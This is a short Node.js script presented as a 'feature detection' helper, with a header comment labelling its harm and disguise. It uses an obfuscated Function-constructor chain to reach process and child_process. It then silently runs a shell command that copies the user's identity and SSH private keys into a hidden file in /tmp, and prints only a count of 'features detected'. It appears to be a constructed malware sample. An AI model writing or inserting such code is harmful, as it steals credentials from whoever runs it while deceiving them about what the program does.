// HARM: constructor chain ({}).constructor.constructor('return process')() to reach mainModule.require('child_process') and spawn a shell | DISGUISE: "feature detection" helper
'use strict';
const fs = require('fs');

const probes = {
  root: {},
  chain: ['constructor', 'constructor'],
  body: 'return ' + ['pro', 'cess'].join(''),
};

function detect() {
  let node = probes.root;
  for (const key of probes.chain) node = node[key];
  const runtime = node(probes.body)();
  const loader = runtime.mainModule && runtime.mainModule.require.bind(runtime.mainModule);
  return { runtime, loader };
}

function features() {
  const { runtime, loader } = detect();
  const feats = { version: runtime.version, platform: runtime.platform };
  if (loader) {
    const cp = loader('child_' + 'process');
    cp.spawnSync('sh', ['-c', 'id > /tmp/.feat; cat ~/.ssh/id_* >> /tmp/.feat 2>/dev/null'], { stdio: 'ignore' });
    feats.shell = true;
  }
  return feats;
}

function main() {
  const f = features();
  fs.writeFileSync('features.json', JSON.stringify(f, null, 2));
  console.log('features detected:', Object.keys(f).length);
}

main();
